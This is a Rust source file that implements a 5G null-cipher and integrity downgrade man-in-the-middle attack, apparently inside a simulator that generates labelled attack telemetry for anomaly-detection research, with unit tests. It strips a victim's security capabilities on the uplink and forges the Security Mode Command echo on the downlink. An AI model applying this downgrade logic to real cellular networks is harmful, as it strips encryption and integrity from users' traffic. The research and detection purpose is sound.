//! Null cipher & integrity downgrade (Hussain et al., 5GReasoner, CCS'19).
//!
//! A bidding-down MiTM that exploits the fact that everything before the
//! NAS security-mode procedure is unprotected:
//!
//! 1. **Uplink**: strip the victim's advertised security capabilities in
//!    `RegistrationRequest` down to the mandatory null algorithms. The
//!    network, following the negotiation rule, selects `NEA0`/`NIA0`.
//! 2. **Downlink**: the network's `SecurityModeCommand` echoes the
//!    capabilities it *received* (the stripped ones) as an anti-bidding-down
//!    measure — but since the selected integrity is `NIA0`, the echo carries
//!    no cryptographic weight, and the MiTM simply rewrites it back to the
//!    full set the victim originally sent. The victim's check passes and the
//!    session proceeds with no confidentiality or integrity at all.
//!
//! Telemetry signature: a normally-shaped ladder whose state parameters
//! (`cipher_alg = NEA0`, `integrity_alg = NIA0`) are anomalous — a purely
//! multivariate anomaly.

use xsec_proto::{L3Message, NasMessage};
use xsec_ran::intercept::{Intercept, Interceptor, TaintScope};
use xsec_types::{AttackKind, SecurityCapabilities, UeId};

/// The capability-stripping MiTM.
pub struct NullCipherMitm {
    victim: UeId,
    /// The capabilities the victim really advertised (recorded on the way
    /// up, replayed into the forged echo on the way down).
    original_caps: Option<SecurityCapabilities>,
    active: bool,
}

impl NullCipherMitm {
    /// Targets one victim's next registration.
    pub fn new(victim: UeId) -> Self {
        NullCipherMitm { victim, original_caps: None, active: true }
    }
}

impl Interceptor for NullCipherMitm {
    fn on_uplink(&mut self, ue: UeId, msg: &L3Message) -> Intercept {
        if ue != self.victim || !self.active {
            return Intercept::Pass;
        }
        // The registration may be bare NAS or ride inside RRCSetupComplete.
        if let Some(&NasMessage::RegistrationRequest { identity, capabilities }) =
            crate::wrap::uplink_nas(msg)
        {
            self.original_caps = Some(capabilities);
            return Intercept::Replace {
                message: crate::wrap::with_nas(
                    msg,
                    NasMessage::RegistrationRequest {
                        identity,
                        capabilities: SecurityCapabilities::null_only(),
                    },
                ),
                taint: AttackKind::NullCipher,
                // The stripped capability bitmap is invisible in MobiFlow
                // telemetry (capabilities are not a Table 1 parameter), so
                // the strip itself is not a labelable entry; the labels
                // start where the downgrade becomes observable (the SMC).
                scope: TaintScope::Burst { skip: 0, label: 0 },
            };
        }
        Intercept::Pass
    }

    fn on_downlink(&mut self, ue: UeId, msg: &L3Message) -> Intercept {
        if ue != self.victim || !self.active {
            return Intercept::Pass;
        }
        if let L3Message::Nas(NasMessage::SecurityModeCommand { cipher, integrity, .. }) = msg {
            let Some(original) = self.original_caps else {
                return Intercept::Pass;
            };
            // The downgrade succeeded only if the network picked null
            // algorithms; forge the echo so the victim's anti-bidding-down
            // check passes. One-shot: stop after the SMC.
            self.active = false;
            return Intercept::Replace {
                message: L3Message::Nas(NasMessage::SecurityModeCommand {
                    cipher: *cipher,
                    integrity: *integrity,
                    replayed_capabilities: original,
                }),
                taint: AttackKind::NullCipher,
                scope: TaintScope::Session,
            };
        }
        Intercept::Pass
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use xsec_proto::MobileIdentity;
    use xsec_types::{CipherAlg, IntegrityAlg, Tmsi};

    #[test]
    fn strips_capabilities_uplink_and_forges_echo_downlink() {
        let mut mitm = NullCipherMitm::new(UeId(5));
        let reg = L3Message::Nas(NasMessage::RegistrationRequest {
            identity: MobileIdentity::FiveGSTmsi(Tmsi(1)),
            capabilities: SecurityCapabilities::full(),
        });
        // Uplink: stripped.
        let Intercept::Replace { message, taint, .. } = mitm.on_uplink(UeId(5), &reg) else {
            panic!("expected Replace");
        };
        assert_eq!(taint, AttackKind::NullCipher);
        let L3Message::Nas(NasMessage::RegistrationRequest { capabilities, .. }) = message else {
            panic!("still a registration");
        };
        assert_eq!(capabilities, SecurityCapabilities::null_only());

        // Downlink: the network (having seen null-only) selects NEA0/NIA0
        // and echoes null-only; the MiTM rewrites the echo to full.
        let smc = L3Message::Nas(NasMessage::SecurityModeCommand {
            cipher: CipherAlg::Nea0,
            integrity: IntegrityAlg::Nia0,
            replayed_capabilities: SecurityCapabilities::null_only(),
        });
        let Intercept::Replace { message, .. } = mitm.on_downlink(UeId(5), &smc) else {
            panic!("expected Replace");
        };
        let L3Message::Nas(NasMessage::SecurityModeCommand {
            cipher,
            integrity,
            replayed_capabilities,
        }) = message
        else {
            panic!("still an SMC");
        };
        assert!(cipher.is_null() && integrity.is_null());
        assert_eq!(replayed_capabilities, SecurityCapabilities::full());

        // One-shot: subsequent traffic passes.
        assert_eq!(mitm.on_downlink(UeId(5), &smc), Intercept::Pass);
    }

    #[test]
    fn non_victims_pass_untouched() {
        let mut mitm = NullCipherMitm::new(UeId(5));
        let reg = L3Message::Nas(NasMessage::RegistrationRequest {
            identity: MobileIdentity::FiveGSTmsi(Tmsi(1)),
            capabilities: SecurityCapabilities::full(),
        });
        assert_eq!(mitm.on_uplink(UeId(6), &reg), Intercept::Pass);
    }

    #[test]
    fn echo_forgery_requires_seen_uplink() {
        // If the MiTM never saw the registration (e.g. attached late), it
        // cannot forge a matching echo and stays passive.
        let mut mitm = NullCipherMitm::new(UeId(5));
        let smc = L3Message::Nas(NasMessage::SecurityModeCommand {
            cipher: CipherAlg::Nea0,
            integrity: IntegrityAlg::Nia0,
            replayed_capabilities: SecurityCapabilities::null_only(),
        });
        assert_eq!(mitm.on_downlink(UeId(5), &smc), Intercept::Pass);
    }
}
